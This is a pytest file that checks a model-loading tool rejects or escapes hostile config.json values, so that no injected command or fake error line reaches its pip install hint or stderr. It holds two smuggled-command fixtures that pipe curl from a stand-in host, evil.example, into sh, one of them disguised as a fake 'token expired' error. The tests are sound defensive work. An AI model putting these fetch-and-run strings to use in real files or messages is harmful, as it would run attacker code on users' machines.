"""Text from files and servers is shown escaped, and only a checked name reaches a pip hint.

Issue 8 item 9: a ``config.json`` whose ``plugin`` is a shell command, or whose
``plugin_version`` holds a newline and a fake ``zoo: error:`` line, must not
make zoo print a command that runs it, nor a line it did not write.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import zoo_core
from tests.conftest import run_zoo
from zoo_core.untrusted import clean_text, install_requirement, valid_distribution, valid_version

EVIL_PLUGIN = "zoo-cnn' && curl -s http://evil.example/x | sh && echo '"
SPOOF = "1.0\nzoo: error: your token expired, run: curl http://evil.example | sh"


@pytest.mark.parametrize(
    ("name", "version", "expected"),
    [
        ("zoo-cnn", "1.2.0", "zoo-cnn>=1.2.0"),
        ("Zoo_CNN.x", "2.0rc1", "Zoo_CNN.x>=2.0rc1"),
        ("zoo-cnn", None, "zoo-cnn"),
        ("zoo-cnn", SPOOF, "zoo-cnn"),  # a malformed version is dropped, the name still installs
        ("zoo-cnn", " 1.0", "zoo-cnn"),
        ("zoo-cnn", "1.0; echo x", "zoo-cnn"),
        (EVIL_PLUGIN, "1.0", None),
        ("zoo cnn", "1.0", None),
        ("-zoo", "1.0", None),
        ("zoo-cnn\n", "1.0", None),
        ("a" * 101, "1.0", None),
        (["zoo-cnn"], "1.0", None),
    ],
)
def test_install_requirement_accepts_only_pep508_names_and_pep440_versions(
    name: object, version: object, expected: str | None
) -> None:
    assert install_requirement(name, version) == expected


def test_validators_and_clean_text() -> None:
    assert valid_distribution("zoo-cnn") and not valid_distribution("zoo-cnn'")
    assert valid_version("1!2.0.post1.dev3+local.7") and not valid_version("1.0\n")
    assert clean_text("a\nb\x1b[31mc\u202ed\x00") == "a\\nb\\x1b[31mc\\u202ed\\x00"
    assert clean_text("x" * 500, 10) == "x" * 10 + "…"
    assert clean_text(None) == "None"


def _tamper(directory: Path, **fields: object) -> None:
    config = directory / "config.json"
    record = json.loads(config.read_text())
    record.update(fields)
    config.write_text(json.dumps(record))


def _assert_clean(stderr: str) -> None:
    lines = stderr.splitlines()
    assert 1 <= len(lines) <= 2, stderr
    assert lines[0].startswith("zoo: error: ")
    assert not any(line.startswith("zoo: error: your token") for line in lines)
    assert "\x1b" not in stderr and "\u202e" not in stderr
    for line in lines:
        if "pip install" in line:
            assert "curl" not in line and "&&" not in line, line
    assert "internal error" not in stderr and "Traceback" not in stderr


def test_a_hostile_config_cannot_inject_a_command_or_a_line_in_python(tmp_path: Path) -> None:
    model = zoo_core.create_model("linear_regression")
    evil = zoo_core.save_model(model, tmp_path / "evil")
    _tamper(evil, plugin=EVIL_PLUGIN, plugin_version=SPOOF)
    with pytest.raises(zoo_core.ZooError) as info:
        zoo_core.load_model(evil)
    assert "\n" not in str(info.value) and "curl" not in (info.value.hint or "")


@pytest.mark.slow
def test_a_hostile_config_cannot_inject_a_command_or_a_line(tmp_path: Path) -> None:
    model = zoo_core.create_model("linear_regression")
    evil = zoo_core.save_model(model, tmp_path / "evil")
    _tamper(evil, plugin=EVIL_PLUGIN, plugin_version=SPOOF)
    spoofed = zoo_core.save_model(model, tmp_path / "spoofed")
    _tamper(spoofed, plugin="zoo-vit", plugin_version=SPOOF, architecture="vit\x1b[2J\u202etiny")
    for command, directory in (("load", evil), ("info", spoofed)):
        result = run_zoo(command, str(directory))
        assert result.returncode != 0
        _assert_clean(result.stderr)
        if directory == spoofed and "pip install" in result.stderr:
            # A valid name is still offered, without the malformed version.
            assert "pip install 'zoo-vit'" in result.stderr
